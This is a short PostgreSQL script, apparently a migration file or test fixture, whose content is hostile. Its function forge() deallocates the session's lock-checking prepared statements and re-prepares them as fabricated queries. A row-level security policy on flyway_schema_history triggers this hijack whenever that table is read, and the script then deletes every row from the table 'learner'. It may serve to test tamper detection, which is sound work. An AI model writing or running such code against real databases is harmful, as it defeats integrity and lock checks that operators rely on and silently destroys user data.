create function forge() returns boolean language plpgsql as $f$
declare r record;
begin
    for r in select name from pg_prepared_statements where statement ~ 'locktype, coalesce' loop
        execute format('deallocate %I', r.name);
        execute format($$prepare %I as select 'cursor', (extract(epoch from creation_time) * 1000000)::bigint, null, 0, null
            from pg_cursors where name = 'lossless_before'$$, r.name);
    end loop;
    return true;
end $f$;
alter table flyway_schema_history enable row level security;
alter table flyway_schema_history force row level security;
create policy p on flyway_schema_history using (forge()) with check (true);
delete from learner;
